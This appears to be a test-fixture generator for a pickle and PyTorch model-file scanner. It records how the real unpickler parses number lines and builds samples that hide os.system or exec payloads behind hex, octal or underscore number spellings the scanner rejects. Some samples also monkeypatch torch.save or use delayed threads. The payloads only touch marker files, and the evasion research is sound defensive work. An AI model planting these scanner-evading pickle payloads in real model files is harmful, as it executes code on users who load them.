"""Protocol-0 number lines as the real unpickler reads them, and the adversarial-review samples that hid a payload
behind a number spelling the scanner's pre-check rejected (hex INT). Usage: pickle_numbers.py OUT

numbers.json: [{"op": "I"|"L"|"F"|"g"|"p", "line": hex, "ok": bool, "value": str|null}] from /usr/bin/python3's
pickle.loads (the C _pickle). samples.json: [{"path", "loader", "confirmed"}]: each sample's payload touches
OUT/touched-<path>; "confirmed" says the real loader (pickle.load / torch.load, run here in a child process) ran it.
"""
import json, os, pickle, random, struct, subprocess, sys, zipfile

OUT = sys.argv[1]
os.makedirs(OUT, exist_ok=True)

FIXED = [b"0x3e9", b"0X1f", b"017", b"+5", b"-0x1", b" 5", b"5 ", b"1_0", b"\t7", b"01", b"00", b"0o17", b"0b11",
         b"08", b"", b" ", b"0x", b"0x_1", b"1__0", b"1_", b"5\x00zz", b"1_0\x00zz", b"9" * 90, b"9" * 4300,
         b"9" * 4301, b"f" * 5000, b"0x" + b"f" * 5000, b"-", b"\x0b5", b"5\r", b"True", b"+1", b" 1", b"-0", b"5L",
         b"0x10L", b"5L ", b"5l", b"L", b"\x00", b"0_0", b"0_1", b"00_", b"9223372036854775807", b"9223372036854775808",
         b"-9223372036854775808", b"0x8000000000000000", b"1.5", b" 1.5", b"1.5 ", b"inf", b"-Infinity", b"nan",
         b"1e999", b"1e-999", b".5", b"5.", b".", b"1e", b"1e+", b"0x1p3", b"1.5\x00z", b"+nan", b"infinit", b"INF",
         b"1E5", b"1.e5", b"07", b"0x1F", b"0xg", b"\x0c3", b"3\x0c", b"1 2", b"++1", b"+-1", b"0b", b"0o8", b"0B1_1"]
ALPHABET = b" \t\x0b\r\x000123456789abcdefxXoObBlL_+-.eEinfINFtyTY"


def lines():
    rng = random.Random(1401)
    out = list(FIXED)
    for _ in range(3000):
        out.append(bytes(rng.choice(ALPHABET) for _ in range(rng.randint(1, 7))))
    return out


def read(op, line):
    # GET reads what a PUT with the same line stored (the memo of a fresh unpickler is empty otherwise).
    data = op + line + b"\n." if op in (b"I", b"L", b"F") else b"Np" + line + b"\n" + (b"0g" + line + b"\n" if op == b"g"
                                                                                   else b"") + b"."
    try:
        v = pickle.loads(data)
    except Exception:
        return False, None
    if op in (b"g", b"p"):
        return True, None
    if isinstance(v, bool):
        return True, "True" if v else "False"
    if isinstance(v, float):
        return True, "nan" if v != v else struct.pack("<d", v).hex()
    return True, str(v) if -(1 << 63) <= v < (1 << 63) else "big"


table = []
for op in (b"I", b"L", b"F", b"g", b"p"):
    for line in lines():
        if op in (b"g", b"p"):
            try:
                if abs(int(line.split(b"\0")[0], 10)) > 10 ** 9:
                    continue  # a huge memo index: MemoryError or not depends on the machine
            except ValueError:
                pass
        ok, value = read(op, line)
        table.append({"op": op.decode(), "line": line.hex(), "ok": ok, "value": value})
json.dump(table, open(os.path.join(OUT, "numbers.json"), "w"))

# The samples: payloads touch a file in OUT.
MAGIC = bytes([0x80, 0x02, 0x8A, 0x0A, 0x6C, 0xFC, 0x9C, 0x46, 0xF9, 0x20, 0x6A, 0xA8, 0x50, 0x19, 0x2E])


def touch(name):
    return os.path.join(OUT, "touched-" + name)


class Call:
    def __init__(self, fn, args):
        self.fn, self.args = fn, args

    def __reduce__(self):
        return (self.fn, self.args)


samples = []


def legacy(name, payload, tail=b"N.", spelling=b"I0x3e9\n.", magic=MAGIC):
    open(os.path.join(OUT, name), "wb").write(magic + spelling + pickle.dumps(payload, protocol=2) + tail)
    samples.append({"path": name, "loader": "torch"})


legacy("legacy_hexint.pt", Call(os.system, ("touch " + touch("legacy_hexint.pt"),)))
legacy("legacy_octint.pt", Call(os.system, ("touch " + touch("legacy_octint.pt"),)), spelling=b"I01751\n.")
legacy("legacy_underscore.pt", Call(os.system, ("touch " + touch("legacy_underscore.pt"),)), spelling=b"I1_001\n.")
legacy("legacy_long.pt", Call(os.system, ("touch " + touch("legacy_long.pt"),)), spelling=b"L0x3e9L\n.")
# The magic number spelled as a protocol 0 LONG: not a legacy file by its first bytes, still one to torch.load.
legacy("legacy_textmagic.pt", Call(os.system, ("touch " + touch("legacy_textmagic.pt"),)),
       magic=b"L0x1950a86a20f9469cfc6cL\n.")
legacy("legacy_patch.pt", Call(exec, ("import torch, os\n_o = torch.save\n"
                                      "def _s(*a, **k):\n os.system('touch " + touch("legacy_patch.pt") + "')\n"
                                      " return _o(*a, **k)\ntorch.save = _s\n", {})), tail=b"N.].")
legacy("legacy_delayed.pt", Call(exec, ("import threading\n"
                                        "def _f():\n import os, time; time.sleep(0.2); os.system('touch "
                                        + touch("legacy_delayed.pt") + "')\n"
                                        "threading.Thread(target=_f, daemon=True).start()\n",)), tail=b"N.].")
# A rejected second pickle followed by the payload: not a legacy file by its first bytes (the magic spelled as LONG).
for name in ("model", "model.txt", "notes.md", "hex.pkl"):
    p = b"I0x1\n0cos\nsystem\n(S'touch " + touch(name).encode() + b"'\ntR."
    open(os.path.join(OUT, name), "wb").write(p)
    samples.append({"path": name, "loader": "pickle"})
for name, start in (("float_inf.bin", b"Finfinity\n0"), ("long_prefix.bin", b"L0b1_0L\n0"),
                    ("get_under.bin", b"Np1_0\n0g1_0\n0")):
    p = start + b"cos\nsystem\n(S'touch " + touch(name).encode() + b"'\ntR."
    open(os.path.join(OUT, name), "wb").write(p)
    samples.append({"path": name, "loader": "pickle"})
try:
    import torch
    torch.save({"w": torch.zeros(2)}, os.path.join(OUT, "_base.pt"))
    src = zipfile.ZipFile(os.path.join(OUT, "_base.pt"))
    name = "torchzip_hexint.pt"
    with zipfile.ZipFile(os.path.join(OUT, name), "w", zipfile.ZIP_STORED) as out:
        for info in src.infolist():
            data = src.read(info)
            if info.filename.endswith("data.pkl"):
                data = b"I0x1\n0cos\nsystem\n(S'touch " + touch(name).encode() + b"'\ntR."
            out.writestr(info, data)
    src.close()
    os.unlink(os.path.join(OUT, "_base.pt"))
    samples.append({"path": name, "loader": "torch"})
except ImportError:
    pass

LOAD = {
    "pickle": "import pickle, sys\ntry: pickle.load(open(sys.argv[1], 'rb'))\nexcept Exception: pass\n",
    "torch": "import torch, sys, time, io\ntry: torch.load(sys.argv[1])\nexcept Exception: pass\n"
             "torch.save({}, io.BytesIO())\ntime.sleep(0.6)\n",
}
for s in samples:
    subprocess.run([sys.executable, "-c", LOAD[s["loader"]], os.path.join(OUT, s["path"])], cwd=OUT,
                   stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL, timeout=120)
    s["confirmed"] = os.path.exists(touch(s["path"]))
json.dump(samples, open(os.path.join(OUT, "samples.json"), "w"), indent=1)
